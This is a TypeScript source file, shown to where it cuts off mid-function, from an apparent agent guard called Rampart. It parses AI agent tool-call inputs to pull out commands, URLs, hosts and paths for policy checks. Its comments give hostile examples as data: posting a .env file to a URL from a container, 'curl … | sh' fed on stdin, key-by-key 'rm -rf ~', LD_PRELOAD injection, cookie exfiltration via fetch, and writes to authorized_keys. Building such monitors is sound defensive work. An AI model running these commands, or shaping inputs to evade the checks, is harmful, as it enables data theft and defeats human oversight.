// What an agent tool call's input names, for tools Rampart has no model of (MCP tools, tools
// added by a newer client): command strings, URLs and file paths, found by the keys that
// carry them and by the shape of whole string values. Free text (a message body, a prompt)
// is not mined: a URL inside prose is not a fetch. Pure.
import { gitToolLine } from './git-tools.js';
import { kernelLines } from './kernel-cells.js';
import { gunzipSync, inflateSync } from 'node:zlib';

export interface NamedInput {
  commands: string[];
  urls: string[];
  /** Bare host names (`host: "x.example"`). */
  hosts: string[];
  paths: string[];
  /** SQL statements (`sql`, `statement`; a database tool's `query`). */
  sql: string[];
  /** Branch names a tool is told to write to (`branch`, `ref`, `target_branch`). */
  branches: string[];
  /** Set when the input could not be read fully (not an object, too deep, too big). */
  unreadable?: string;
}

const MAX_DEPTH = 8;
const MAX_STRINGS = 2000;

/** A tool's own name, without its MCP server's prefix: mcp__github__merge_pull_request → merge_pull_request. */
export const ownToolName = (name: string): string => name.split('__').pop()!;
export const norm = (k: string) => k.toLowerCase().replace(/[^a-z0-9]/g, '');

/** Keys whose string value is a command line a shell will run. */
// (…and the spellings of servers that name the CLI they wrap: aws's cli_command, cmd_line, raw_command.)
// (…and a script's text by its language or kind: shell_script, bashScript, command_text.)
export const COMMAND_KEYS = new Set(['command', 'cmd', 'commandline', 'shellcommand', 'script', 'shell', 'exec', 'run', 'bash', 'sh', 'clicommand', 'cmdline', 'shellcmd', 'rawcommand', 'fullcommand', 'bashcommand', 'terminalcommand', 'commandstring',
  'shellscript', 'bashscript', 'shscript', 'commandtext', 'scripttext', 'scriptbody', 'scriptcontent', 'scriptsource']);
/** Keys holding a list of command lines, each run by a shell ({"commands": ["npm ci", "npm test"]}): each item is one line,
 *  not one word of an argument vector. */
const COMMAND_LIST_KEYS = new Set(['commands', 'cmds', 'commandlist', 'shellcommands', 'bashcommands', 'scriptlines', 'commandlines']);
const commandKey = (k: string): boolean => COMMAND_KEYS.has(k) || COMMAND_LIST_KEYS.has(k);
/** Keys whose value is code in some language: not judged statically here. */
const CODE_KEYS = new Set(['code', 'program', 'expression', 'eval', 'js', 'javascript', 'python', 'snippet']);
/** Keys holding a JavaScript function a browser tool runs in the page (Playwright's browser_evaluate): it reaches the
 *  network only, through the URLs it names — or ones it computes, which are not known. */
const PAGE_CODE_KEYS = new Set(['function', 'func', 'fn', 'pagefunction']);
const PAGE_NETWORK = /\b(fetch|WebSocket|XMLHttpRequest|sendBeacon|EventSource|RTCPeerConnection|importScripts|open)\s*\(|\bimport\s*\(|\.(src|href|action)\s*=|\blocation\s*=|\blocation\.(assign|replace)\b/;
/** What follows a network call or assignment that gives it one whole literal URL ('https://h/p', not 'https://' + h). */
const PAGE_LITERAL_URL = /^\s*\(?\s*(['"`])[a-z][a-z0-9+.-]*:\/\/[^'"`$\s]+\1\s*[,);\n}]/i;
/** Page code whose reach is not read: code run from a string, a global looked up by a computed name, a network function passed as a value. */
const PAGE_OPAQUE = /\beval\s*\(|\bnew\s+Function\s*\(|\bFunction\s*\(|\b(window|globalThis|self|top|parent|frames)\s*\[|[\s,(\[=:](fetch|sendBeacon|XMLHttpRequest|WebSocket|EventSource)\s*[,)\].;]|\bsetAttribute\s*\(\s*['"`](src|srcset|href|action|formaction|data|poster)\b/;
/** Markup written into the page: an element it adds loads what its src/href names. */
const PAGE_MARKUP = /\b(innerHTML|outerHTML|insertAdjacentHTML|srcdoc)\b|\bdocument\.write(ln)?\s*\(/;
/** Tools that type into a running process (a shell, a REPL, a terminal session or emulator, the focused window): the text
 *  they send it runs there. */
const TYPES_INTO = /process|terminal|shell|repl|session|console|tmux|screen|pty|tty|interact|send_?keys|send-keys|stdin|write_?chars|wezterm|kitty|zellij|iterm|ghostty|alacritty|konsole|xdotool|keystroke/i;
/** tmux's and terminals' names for keys that type a character. */
const KEY_NAMES: Readonly<Record<string, string>> = { Enter: '\n', 'C-m': '\n', KPEnter: '\n', Return: '\n', 'C-j': '\n', Space: ' ', Tab: '\t', 'C-i': '\t' };
/** The lines typed text runs: the text, and the command an editor, pager or REPL runs from it (vim's `:!CMD`, `:r !CMD`,
 *  less's and IPython's `!CMD`, psql's `\\! CMD`). */
function typedLines(text: string): string[] {
  const escaped = /^\s*(?::[\w\s,.$%']*)?!|^\s*\\!/;
  return [text, ...text.split('\n').filter((l) => escaped.test(l)).map((l) => l.replace(escaped, ''))];
}
/** …and the keys holding what they type. */
const TYPED_KEYS = new Set(['input', 'stdin', 'keys', 'chars', 'line', 'lines', 'text', 'data', 'send', 'write']);
/** Keys holding a command as an argument vector; and the arguments given beside a `command` that names only the program. */
const ARGV_KEYS = new Set(['argv', 'commandargs', 'commandline', 'cmdline']);
const ARGS_KEYS = new Set(['args', 'arguments', 'argv', 'params', 'parameters', 'arglist', 'argslist', 'programargs', 'programarguments', 'cmdargs', 'argumentlist']);
/** Tools that stop processes, and the keys naming which (by name or pattern, as pkill -f is told). */
const KILLS = /kill|terminate|signal|stop_?process|end_?process/i;
const PROCESS_NAME_KEYS = new Set(['match', 'pattern', 'name', 'process', 'processname', 'command', 'cmd', 'query']);
/** Keys whose value is a URL. */
const URL_KEYS = new Set(['url', 'urls', 'uri', 'uris', 'href', 'link', 'links', 'endpoint', 'baseurl', 'websocket', 'websocketurl', 'wsurl', 'ws', 'webhook', 'webhookurl', 'callbackurl', 'proxy', 'proxyurl', 'apibase', 'apiroot']);
/** A key naming a URL by its own name though it is not in the list (server_url, webhook_endpoint, target_uri), when its value
 *  is one — with a scheme, or a host name with a dot or a port first (evil.example/hook, 10.0.0.5:8080). */
const urlKey = (k: string, s: string): boolean => URL_KEYS.has(k) || (/(url|urls|uri|uris|endpoint|endpoints|webhook)$/.test(k) && (URL_SHAPE.test(s) || HOST_SHAPE.test(s.split(/[/?#]/)[0]!)));
/** Keys whose value is a host name. */
const HOST_KEYS = new Set(['host', 'hostname', 'hosts', 'server', 'domain', 'address', 'remote', 'remotehost']);
/** Keys naming a peer as an address (ip, target_host, site): a host when the value has the shape of one — a dotted name or
 *  address, a bracketed IPv6, localhost — so a word such as a remote's name (origin, upstream) is not read as a host. */
const PEER_KEYS = new Set(['ip', 'ips', 'ipaddress', 'ipaddr', 'targethost', 'targetip', 'targetaddress', 'desthost', 'destinationhost', 'destinationip', 'remoteaddr', 'remoteaddress', 'remoteip', 'serverhost', 'serveraddress', 'serverip', 'hostaddress', 'hostip', 'peer', 'peeraddress', 'site', 'sites', 'upstream', 'upstreamhost',
  // (…and an origin: a remote's name as often as a host, so only one shaped as a host — {"origin": "evil.example"}.)
  'origin', 'originhost', 'remoteorigin', 'servers', 'remotes', 'hostnames', 'domains', 'addresses']);
/** A host given with a user (root@evil.example, git@evil.example:x/y.git in scp's HOST:PATH form): the host, as ssh and git
 *  read it. Under a host or peer key, and under the keys an ssh or copy tool names its destination by. */
const USER_HOST = /^[\w.+-]+@(\[[0-9a-f:.]+\]|[\w-]+(?:\.[\w-]+)*)(?::\S*)?$/i;
const SSH_DEST_KEYS = new Set(['destination', 'dest', 'target', 'sshtarget', 'sshhost', 'login']);
const HOST_SHAPE = /^(\[[0-9a-f:.]+\]|[\w-]+(\.[\w-]+)+|localhost)(:\d+)?$/i;
/** Keys whose value is a file system path. */
const PATH_KEYS = new Set([
  'path', 'paths', 'file', 'files', 'filepath', 'filepaths', 'filename', 'filenames', 'dir', 'dirs', 'directory', 'directories', 'cwd', 'workdir',
  'workingdirectory', 'folder', 'notebookpath', 'absolutepath', 'target', 'targetpath', 'destination', 'dest', 'destpath', 'src', 'srcpath',
  'source', 'sourcepath', 'output', 'outputpath', 'outputfile', 'outfile', 'inputpath', 'inputfile', 'location', 'root', 'from', 'to', 'newpath', 'oldpath',
]);
/** A key naming a path by its own name though it is not in the list: pathInProject, relative_path, config_file, log_dir.
 *  (Not a selector or expression that only ends so: xpath, jsonpath, urlpath; nor a file's text under its name — a
 *  dockerfile or makefile key holding lines.) */
const pathKey = (k: string): boolean => PATH_KEYS.has(k) || (/(path|paths|file|filename|filenames|dir|directory)$|^path/.test(k) && !/(xpath|jsonpath|urlpath|keypath|pathpattern)$/.test(k));
/** Free text: never mined for paths or URLs. */
const TEXT_KEYS = new Set(['content', 'contents', 'text', 'body', 'message', 'prompt', 'description', 'title', 'oldstring', 'newstring', 'query', 'pattern', 'comment', 'summary', 'reason', 'note', 'notes', 'instructions', 'newsource', 'todos']);

/** Keys whose value is SQL, and tools whose `query` is (a database's MCP server: postgres, mysql, sqlite, duckdb …). */
const SQL_KEYS = new Set(['sql', 'sqlquery', 'statement', 'statements', 'sqlstatement']);
const DATABASE_TOOL = /sql|postgres|pg_|_pg\b|mysql|maria|sqlite|duck|clickhouse|snowflake|bigquery|redshift|cockroach|supabase|neon|database|_db_|__db|db__/i;
/** Keys naming the branch a tool writes to. */
const BRANCH_KEYS = new Set(['branch', 'ref', 'targetbranch', 'branchname']);

const URL_SHAPE = /^[a-z][a-z0-9+.-]*:\/\/\S+$/i;
const PATH_SHAPE = /^(~|\/|\.{1,2}\/)[^\s]*$/;

/** Walks a tool input and sorts what it names. */
export function namesIn(input: unknown, toolName = ''): NamedInput {
  const out: NamedInput = { commands: [], urls: [], hosts: [], paths: [], sql: [], branches: [] };
  const database = DATABASE_TOOL.test(toolName);
  const typesInto = TYPES_INTO.test(toolName);
  const kills = KILLS.test(toolName);
  const container = /docker|container|podman|nerdctl/i.test(toolName);
  if (typeof input !== 'object' || input === null || Array.isArray(input)) {
    out.unreadable = 'the tool input is not a JSON object';
    return out;
  }
  const kernel = kernelOf(toolName);
  let strings = 0;
  const visit = (v: unknown, key: string, depth: number): void => {
    if (out.unreadable) return;
    if (depth > MAX_DEPTH) {
      out.unreadable = `the tool input nests deeper than ${MAX_DEPTH} levels`;
      return;
    }
    if (typeof v === 'string') {
      if (++strings > MAX_STRINGS) {
        out.unreadable = `the tool input holds more than ${MAX_STRINGS} strings`;
        return;
      }
      if (SQL_KEYS.has(key) || (database && key === 'query')) out.sql.push(v);
      else if (typesInto && TYPED_KEYS.has(key)) out.commands.push(...typedLines(v));
      else if (kills && PROCESS_NAME_KEYS.has(key)) out.commands.push(`pkill -f ${shellQuote(v)}`);
      else if (BRANCH_KEYS.has(key)) out.branches.push(v.trim());
      else if (kernel === 'local' && KERNEL_CODE_KEYS.has(key)) {
        const cell = kernelLines(v);
        if (cell) out.commands.push(...cell);
        else out.unreadable ??= 'the kernel cell uses IPython in a way Rampart does not read (a magic, get_ipython())';
      }
      else take(out, key, v, kernel);
      return;
    }
    if (Array.isArray(v)) {
      // (Keys typed one after another — tmux send-keys "r" "m" " " "-rf" "~" Enter — are one text: judged joined, key names read.)
      if (typesInto && TYPED_KEYS.has(key) && v.length > 1 && v.every((x) => typeof x === 'string')) out.commands.push(...typedLines(v.map((x) => KEY_NAMES[x] ?? x).join('')));
      // (A notebook cell's source kept as nbformat does, a list of lines each ending in a newline, is one cell.)
      else if (kernel === 'local' && KERNEL_CODE_KEYS.has(key) && v.length > 1 && v.every((x) => typeof x === 'string')) {
        visit(v.join(''), key, depth + 1);
        return;
      }
      for (const x of v) visit(x, key, depth + 1);
      return;
    }
    if (typeof v === 'object' && v !== null) {
      // (A command given as an argument vector — {"argv": ["rm", "-rf", "."]}, or {"command": "curl", "args": [...]} — is that
      // command line: its words are judged together, not one by one as loose strings.)
      const entries = Object.entries(v).map(([k, x]) => [norm(k), x] as const);
      const words = (x: unknown): string[] | undefined => (Array.isArray(x) && x.length > 0 && x.every((w) => typeof w === 'string') ? x as string[] : undefined);
      const argvAt0 = entries.find(([k, x]) => (ARGV_KEYS.has(k) || COMMAND_KEYS.has(k)) && words(x));
      // (An argv beside a program key that does not start with that program is its arguments: {"bin": "rm", "argv": ["-rf", …]}.)
      const programOf = entries.find(([k, x]) => PROGRAM_KEYS.has(k) && typeof x === 'string' && x.trim() !== '');
      const base = (w: string) => w.trim().split('/').pop();
      const argvAt = argvAt0 && programOf && ARGV_KEYS.has(argvAt0[0]) && base(words(argvAt0[1])![0]!) !== base(String(programOf[1])) ? undefined : argvAt0;
      // (…the arguments beside either — {"command": ["sh", "-c"], "args": ["…"]}, {"command": "sh -c", "args": […]},
      // execFile's {"file": "/bin/sh", "args": […]} — are the rest of that command line.)
      const argsAt0 = entries.find(([k, x]) => ARGS_KEYS.has(k) && k !== argvAt0?.[0] && words(x));
      const argsAt = argsAt0 ?? (argvAt0 && argvAt0 !== argvAt ? argvAt0 : undefined);
      const program = entries.find(([k, x]) => (COMMAND_KEYS.has(k) || PROGRAM_KEYS.has(k) || (k === 'file' && argsAt !== undefined) || (k === 'path' && argsAt !== undefined && STARTS_PROGRAM.test(ownToolName(toolName)))) && typeof x === 'string' && x.trim() !== '');
      const rest = argsAt ? words(argsAt[1])!.map(shellQuote) : [];
      const line = argvAt ? [...words(argvAt[1])!.map(shellQuote), ...rest].join(' ') : program && argsAt ? [String(program[1]).trim(), ...rest].join(' ') : undefined;
      const used = new Set<string>();
      // (A command given as an object of its own — {"command": {"line": "…"}}, {"cmd": {"text": "…"}} — holds its line under
      // a text key.)
      if (COMMAND_KEYS.has(key)) for (const [k, x] of entries) if (COMMAND_TEXT_KEYS.has(k) && typeof x === 'string' && x.trim() !== '') {
        out.commands.push(x);
        used.add(k);
      }
      // (A container tool given an image runs the command there, with the mounts it is given: judged as docker run is, the
      // image's own entrypoint included — {"image": "curlimages/curl", "command": ["-d", "@/src/.env", URL]}.)
      const image = container ? entries.find(([k, x]) => k === 'image' && typeof x === 'string' && /^[\w./:@-]+$/.test(x)) : undefined;
      if (image) {
        // (Mounts in any of the shapes container APIs take — "SRC:DST", a list of them, {SRC: {bind: DST}}, [{source, target}],
        // inside a host_config too — and the host's namespaces or devices it is given. A shape not read is not understood.)
        const host = containerHost(entries);
        if (host === undefined) out.unreadable ??= 'the container tool\'s mounts are given in a shape Rampart does not read';
        out.commands.push(['docker', 'run', '--rm', ...(host ?? []), image[1] as string].map(shellQuote).join(' ') + (line !== undefined ? ` ${line}` : ''));
        used.add('image');
        for (const [k] of entries) if (MOUNT_KEYS.test(k) || HOST_CONFIG_KEYS.test(k) || k in HOST_OPTIONS) used.add(k);
      } else {
        // (…run in the working directory it is given: {"command": "rm", "args": ["-rf", "Documents"], "cwd": "/home/u"}.)
        const cwd = entries.find(([k, x]) => CWD_KEYS.has(k) && typeof x === 'string' && PATH_SHAPE.test(x.trim()));
        // (…with the environment it is given: {"command": "npm test", "env": {"LD_PRELOAD": "/tmp/x.so"}} is that assignment
        // before the command — a loader variable, a PATH without the shims, a RAMPART_ setting are judged as the shell's are.)
        // (…also under the spawn options beside it — {"command": …, "options": {"env": {…}}} — and as a list of K=V
        // strings, docker's spelling.)
        const isEnv = ([k, x]: readonly [string, unknown]) => ENV_KEYS.has(k) && typeof x === 'object' && x !== null;
        const envAt = entries.find(isEnv) ?? entries.filter(([k, x]) => OPTION_KEYS.has(k) && typeof x === 'object' && x !== null && !Array.isArray(x))
          .map(([, x]) => Object.entries(x as object).map(([k, y]) => [norm(k), y] as const).find(isEnv)).find((e) => e !== undefined);
        const envPairs = !envAt ? [] : Array.isArray(envAt[1]) ? envAt[1].map((x) => (typeof x === 'string' && x.includes('=') ? [x.slice(0, x.indexOf('=')), x.slice(x.indexOf('=') + 1)] as const : ['', undefined] as const)) : Object.entries(envAt[1] as Record<string, unknown>);
        const envText = envPairs.map(([k, x]) => (/^[A-Za-z_]\w*$/.test(k) && ['string', 'number', 'boolean'].includes(typeof x) ? `${k}=${shellQuote(String(x))}` : undefined));
        if (envText.includes(undefined)) out.unreadable ??= 'the tool input gives an environment Rampart does not read';
        // (…fed the text it is given on standard input: {"command": "bash", "stdin": "curl … | sh"} runs that text, as
        // `bash <<EOF` would — judged as that here-document.)
        const stdinAt = typesInto ? undefined : entries.find(([k, x]) => STDIN_KEYS.has(k) && typeof x === 'string' && x.trim() !== '');
        const text0 = line ?? (program && (COMMAND_KEYS.has(program[0]) || stdinAt) ? String(program[1]) : undefined);
        const fed = text0 !== undefined && stdinAt ? hereDocument(text0, String(stdinAt[1])) : text0;
        const text = fed !== undefined && envText.length ? `export ${envText.join(' ')}; ${fed}` : fed;
        if (text !== undefined && cwd) {
          // (A lone command string is still read as itself too — its base64, its shape — by the visit below.)
          out.commands.push(`cd ${shellQuote(String(cwd[1]).trim())} && ${text}`);
        } else if (text !== undefined && (line !== undefined || envText.length || stdinAt)) out.commands.push(text);
        // (The program fed is judged with what it is fed, not again alone — `python3` alone is an interactive session.)
        if (stdinAt && text0 !== undefined) {
          used.add(stdinAt[0]);
          if (program && line === undefined) used.add(program[0]);
        }
      }
      // (Every other argument vector beside it is a command line too: {"command": ["ls"], "cmd": ["rm", "-rf", "/home/u"]}.)
      for (const [k, x] of entries) if (k !== argvAt?.[0] && k !== argsAt?.[0] && (ARGV_KEYS.has(k) || COMMAND_KEYS.has(k)) && words(x)) {
        out.commands.push(words(x)!.map(shellQuote).join(' '));
        used.add(k);
      }
      if (line !== undefined) {
        if (argvAt) used.add(argvAt[0]);
        else if (program) used.add(program[0]);
        if (argsAt) used.add(argsAt[0]);
      }
      // (A key may itself be a path: {"files": {"/home/u/.ssh/authorized_keys": "…"}}.)
      for (const [k, x] of Object.entries(v)) {
        if (used.has(norm(k))) continue;
        if (PATH_SHAPE.test(k)) out.paths.push(k);
        visit(x, norm(k), depth + 1);
      }
    }
  };
  visit(input, '', 0);
  // A git tool (git_push, git_reset …) runs that git command: judged as its line, where `remote` names a remote, not a host.
  const git = gitToolLine(toolName, input as Record<string, unknown>);
  if (git !== undefined) {
    out.commands.push(git);
    const remote = (input as Record<string, unknown>).remote;
    // (Only a remote's name — origin, upstream — is no host; evil.example may be read as one by the server, and stays.)
    if (typeof remote === 'string' && /^[\w-]+$/.test(remote.trim())) out.hosts = out.hosts.filter((h) => h !== remote.trim());
  }
  return out;
}

/** Keys holding what a command is fed on standard input. */
const STDIN_KEYS = new Set(['stdin', 'input', 'stdindata', 'inputdata', 'inputtext', 'stdintext']);
/** Keys of a command object that hold its line. */
const COMMAND_TEXT_KEYS = new Set(['line', 'text', 'value', 'string', 'source', 'body', 'content', 'raw', 'script', 'commandline', 'cmdline']);
/** TEXT fed to the command line LINE as a here-document. */
function hereDocument(line: string, text: string): string {
  let delim = 'RAMPART_STDIN';
  while (text.includes(delim)) delim += '_';
  return `${line} <<'${delim}'\n${text}\n${delim}`;
}

/** Keys holding the environment a command is run with. */
const ENV_KEYS = new Set(['env', 'environment', 'envvars', 'environmentvariables', 'envvariables', 'extraenv', 'envs', 'additionalenv', 'envmap', 'environ']);
/** Keys holding a spawn's options beside its command (Node's spawn(cmd, args, options), execa's, a server's own). */
const OPTION_KEYS = new Set(['options', 'opts', 'spawnoptions', 'execoptions', 'processoptions', 'runoptions']);
/** Where a tool runs code: in a Jupyter/IPython kernel or a Python REPL on this machine, or in a hosted sandbox (e2b, Daytona,
 *  Riza, Modal) that does not reach this machine's files. Read from the server's and the tool's names. */
// (Not a server named for running here — e2b_local, e2b-selfhosted, e2b_docker: a name its user chose.)
const REMOTE_SANDBOX = /^mcp__(e2b|e2b[-_](?![\w-]*(local|self|host|docker|dev))[\w-]+|daytona|riza|modal|codesandbox|judge0|piston|replit)__/i;
const LOCAL_KERNEL = /jupyter|ipython|notebook|kernel|python_?repl|run_?python|execute_?python|exec_?python/i;
function kernelOf(toolName: string): 'local' | 'remote' | undefined {
  if (REMOTE_SANDBOX.test(toolName)) return 'remote';
  // (A markdown or raw cell is text, not code.)
  return LOCAL_KERNEL.test(toolName) && !/markdown|raw_?cell/i.test(toolName) ? 'local' : undefined;
}
/** …and the keys holding a cell's code. */
const KERNEL_CODE_KEYS = new Set([...CODE_KEYS, 'cellsource', 'source', 'cellcode', 'cellcontent', 'newsource', 'content', 'input']);
/** Keys naming the working directory a command is run in. */
const CWD_KEYS = new Set(['cwd', 'workdir', 'workingdirectory', 'workingdir', 'dir', 'directory']);
/** Keys naming the program a command runs, beside its arguments. */
// (…and its short and path spellings: {"exe": "bash", "arguments": […]}, {"bin": "rm", "argv": […]}.)
const PROGRAM_KEYS = new Set(['program', 'executable', 'binary', 'exe', 'bin', 'executablepath', 'programpath', 'binarypath', 'exepath', 'binpath']);
/** Tools whose name says they start a program: there a path given with arguments ({"path": "/bin/bash", "args": […]}) is the
 *  program they run, as execFile's file is. */
const STARTS_PROGRAM = /run|exec|spawn|launch|start|process|invoke|shell|command|terminal/i;
/** Keys of a container tool's mounts, and of the docker API's host configuration that holds them. */
const MOUNT_KEYS = /^(volumes?|binds?|mounts?)$/;
const HOST_CONFIG_KEYS = /^(hostconfig|host)$/;
/** Container options that give it this machine's namespaces or devices: docker run's option for each, given the value. */
const HOST_OPTIONS: Readonly<Record<string, (v: unknown) => string[]>> = {
  privileged: (v) => (v === true ? ['--privileged'] : []),
  pidmode: (v) => (v === 'host' ? ['--pid=host'] : []), pid: (v) => (v === 'host' ? ['--pid=host'] : []),
  networkmode: (v) => (v === 'host' ? ['--network=host'] : []), network: (v) => (v === 'host' ? ['--network=host'] : []),
  ipcmode: (v) => (v === 'host' ? ['--ipc=host'] : []), usernsmode: (v) => (v === 'host' ? ['--userns=host'] : []),
  capadd: (v) => (Array.isArray(v) ? v.filter((c) => typeof c === 'string').map((c) => `--cap-add=${c}`) : typeof v === 'string' ? [`--cap-add=${v}`] : []),
  devices: (v) => (Array.isArray(v) ? v.map((d) => `--device=${typeof d === 'string' ? d : String((d as Record<string, unknown>)?.PathOnHost ?? (d as Record<string, unknown>)?.pathonhost ?? '/dev/unknown')}`) : []),
};

/** docker run's options for a container tool's mounts and host options (at the top or in a host_config), or undefined when a
 *  mount is given in a shape not read. */
function containerHost(entries: readonly (readonly [string, unknown])[]): string[] | undefined {
  const out: string[] = [];
  const str = (o: Record<string, unknown>, ...keys: string[]) => { for (const [k, x] of Object.entries(o)) if (keys.includes(norm(k)) && typeof x === 'string') return x; return undefined; };
  const mount = (x: unknown, key?: string): boolean => {
    if (typeof x === 'string') { out.push('-v', x); return true; }
    if (Array.isArray(x)) return x.every((m) => mount(m));
    if (typeof x !== 'object' || x === null) return false;
    const o = x as Record<string, unknown>;
    const src = str(o, 'source', 'src', 'hostpath', 'host');
    const dst = str(o, 'target', 'destination', 'dst', 'containerpath', 'bind', 'path');
    if (src !== undefined && dst !== undefined) { out.push('-v', `${src}:${dst}`); return true; }
    if (key !== undefined) return false;
    // ({HOST: {bind: DST, mode}} or {HOST: DST}: the docker SDK's volumes mapping.)
    return Object.entries(o).every(([h, spec]) => {
      const d = typeof spec === 'string' ? spec : typeof spec === 'object' && spec !== null ? str(spec as Record<string, unknown>, 'bind', 'target', 'destination', 'dst') : undefined;
      if (d === undefined) return false;
      out.push('-v', `${h}:${d}`);
      return true;
    });
  };
  let read = true;
  const scan = (es: readonly (readonly [string, unknown])[]): void => {
    for (const [k, x] of es) {
      if (MOUNT_KEYS.test(k)) read &&= mount(x);
      else if (HOST_CONFIG_KEYS.test(k) && typeof x === 'object' && x !== null && !Array.isArray(x)) scan(Object.entries(x).map(([kk, xx]) => [norm(kk), xx] as const));
      else if (k in HOST_OPTIONS) out.push(...HOST_OPTIONS[k]!(x));
    }
  };
  scan(entries);
  return read ? out : undefined;
}

/** A word quoted for the shell where it needs it. */
export function shellQuote(w: string): string {
  return /^[\w@%+=:,./~-]+$/.test(w) ? w : `'${w.replace(/'/g, `'\\''`)}'`;
}

/** Text hidden in base64 (a payload, a `cmd` sent encoded); undefined for anything else, binary data included. */
export function encodedText(s0: string, depth = 0): string | undefined {
  // (A data: URI's body, and base64 wrapped at 76 columns as MIME writes it, are base64 too.)
  const s = s0.replace(/^data:[\w.+-]*\/[\w.+-]*(;[\w=.-]+)*;base64,/i, '').replace(/[\r\n]+/g, '');
  if (s.length < 16 || s.length % 4 === 1 || !/^[A-Za-z0-9+/_-]+={0,2}$/.test(s) || !/[0-9+/=_-]|[a-z][A-Z]/.test(s)) return undefined;
  const bytes = Buffer.from(s, 'base64');
  // (gzip or zlib inside: its text is what was sent.)
  let raw = bytes;
  try {
    if (bytes[0] === 0x1f && bytes[1] === 0x8b) raw = gunzipSync(bytes, { maxOutputLength: 1 << 20 });
    else if (bytes[0] === 0x78 && [0x01, 0x5e, 0x9c, 0xda].includes(bytes[1]!)) raw = inflateSync(bytes, { maxOutputLength: 1 << 20 });
  } catch {
    return undefined;
  }
  const text = raw.toString('utf8');
  // (Printable text only: an image or an archive is data the tool stores, not something it was told.)
  if (text.length < 8 || !/^[\t\n\r\x20-\x7e\u00a0-\uffff]+$/.test(text) || text.includes('\ufffd')) return undefined;
  // (Encoded again: decoded once more, a few layers deep.)
  if (depth < 3) {
    const inner = encodedText(text.trim(), depth + 1);
    if (inner !== undefined) return inner;
  }
  return /\s/.test(text) || URL_SHAPE.test(text) || PATH_SHAPE.test(text) || /[$|;&<>{}`]/.test(text) ? text : undefined;
}

/** What a JSON value found inside a string (decoded, or given as JSON text) names, added to OUT. */
function takeParsed(out: NamedInput, key: string, parsed: object): void {
  const inner = namesIn(Array.isArray(parsed) ? { [key]: parsed } : parsed);
  for (const k of ['commands', 'urls', 'hosts', 'paths', 'sql', 'branches'] as const) out[k].push(...inner[k]);
  out.unreadable ??= inner.unreadable;
}

function take(out: NamedInput, key: string, v: string, kernel?: 'local' | 'remote'): void {
  const s = v.trim();
  if (s === '') return;
  // Encoded text says what it says, decoded; what it says and Rampart cannot place is not understood.
  const decoded = encodedText(s);
  if (decoded !== undefined) {
    let parsed: unknown;
    try {
      parsed = JSON.parse(decoded);
    } catch {
      parsed = undefined;
    }
    if (typeof parsed === 'object' && parsed !== null) takeParsed(out, key, parsed);
    else if (commandKey(key) || URL_SHAPE.test(decoded) || PATH_SHAPE.test(decoded)) take(out, commandKey(key) ? key : '', decoded);
    else out.unreadable ??= `the tool input carries base64-encoded text (${key || 'a value'})`;
    return;
  }
  if (PAGE_CODE_KEYS.has(key)) {
    const urls = [...s.matchAll(/\b[a-z][a-z0-9+.-]*:\/\/[^\s'"`)\]]+/gi)].map((m) => m[0]);
    out.urls.push(...urls);
    // (Each place it reaches the network must be given a whole literal URL: one literal beside a computed address —
    // fetch('https://github.com/'); fetch(atob(…) + document.cookie) — or a scheme joined to a host, 'https://' + h, is not.)
    const sites = [...s.matchAll(new RegExp(PAGE_NETWORK.source, 'g'))];
    const computed = sites.some((m) => !PAGE_LITERAL_URL.test(s.slice(m.index + m[0].length))) || PAGE_OPAQUE.test(s) || (PAGE_MARKUP.test(s) && /\b(src|srcset|href|action|poster|data|formaction)\s*=|\burl\s*\(/i.test(s));
    if (computed) out.unreadable ??= `the page code reaches the network at an address it computes (${key})`;
    return;
  }
  // A tool's arguments given as a JSON text ({"params": "{\"cmd\": …}"}) say what the object would: read as one.
  // (Not a text the tool stores or sends as data: a message body, a file's content.)
  if (/^[[{]/.test(s) && !TEXT_KEYS.has(key) && !CONTENT_KEYS.has(key) && !commandKey(key)) {
    let parsed: unknown;
    try {
      parsed = JSON.parse(s);
    } catch {
      parsed = undefined;
    }
    if (typeof parsed === 'object' && parsed !== null) {
      takeParsed(out, key, parsed);
      return;
    }
  }
  if (commandKey(key)) out.commands.push(v);
  else if (CODE_KEYS.has(key) && kernel !== 'remote') out.unreadable ??= `the tool input carries code to run (${key})`;
  else if (urlKey(key, s)) out.urls.push(URL_SHAPE.test(s) ? s : `https://${s}`);
  else if ((HOST_KEYS.has(key) || PEER_KEYS.has(key) || SSH_DEST_KEYS.has(key)) && USER_HOST.test(s)) out.hosts.push(USER_HOST.exec(s)![1]!);
  else if (HOST_KEYS.has(key) && /^[\w.:[\]-]+$/.test(s)) out.hosts.push(s);
  else if (PEER_KEYS.has(key) && HOST_SHAPE.test(s)) out.hosts.push(s);
  else if (pathKey(key) && !TEXT_KEYS.has(key) && !URL_SHAPE.test(s) && (PATH_KEYS.has(key) || !/\n/.test(s))) out.paths.push(s);
  else if (TEXT_KEYS.has(key)) return;
  else if (URL_SHAPE.test(s)) out.urls.push(s);
  else if (PATH_SHAPE.test(s)) out.paths.push(s);
}

/** Keys whose value is data a tool stores somewhere. */
export const CONTENT_KEYS = new Set(['data', 'content', 'contents', 'text', 'body', 'bytes', 'value', 'payload', 'newsource']);

// Tool names that list a directory or a file's metadata: list_directory, directory_tree, list_allowed_directories, stat, file_exists.
const LISTING = /^(list|ls|tree|l?stat)([_-]|(dir|directory|directories|files?|folders?|entries|tree)$|$)|[_-](tree|list|listing|ls|l?stat|exists)$|^(file|path|dir|directory)_?exists$|^directorytree$/;

/** What an unknown tool does with the paths it names, read from its name (capabilities as data). */
export function pathRoles(toolName: string, hasUrls: boolean, carriesContent = false): ('reads' | 'writes' | 'deletes' | 'sends')[] {
  const n = toolName.toLowerCase();
  const roles: ('reads' | 'writes' | 'deletes' | 'sends')[] = [];
  // (A move or rename takes its source away, as mv does: moving the project root elsewhere removes it from where it was.)
  if (/delete|remove|unlink|erase|purge|trash|(^|[^a-z])rm([^a-z]|$)|move|rename/.test(n)) roles.push('deletes');
  if (/write|edit|create|save|put|upload|move|rename|mkdir|touch|patch|apply|update|append|insert|replace|copy|set|modify|overwrite|install|extract|unzip|download/.test(n)) roles.push('writes');
  // A name that says nothing (FutureTool) given a path and data to put somewhere: it may write it there.
  else if (carriesContent && !/read|get|list|search|find|fetch|view|show|stat|grep|glob|open|cat|head|tail|query|describe|inspect|lookup|count|diff|check|validate|lint/.test(n)) roles.push('writes');
  // Everything else is read at least — but a listing prints names, not contents (listing ~/.ssh is allowed, reading it is
  // not: Glob and LS are modelled so) — and a tool that also names a URL may send what it reads.
  // (A listing by the tool's own name, not its server's — mcp__treesitter__parse_file reads — and by a whole word of it:
  // statistics, list_lines and tree_print print contents.)
  const own = ownToolName(n);
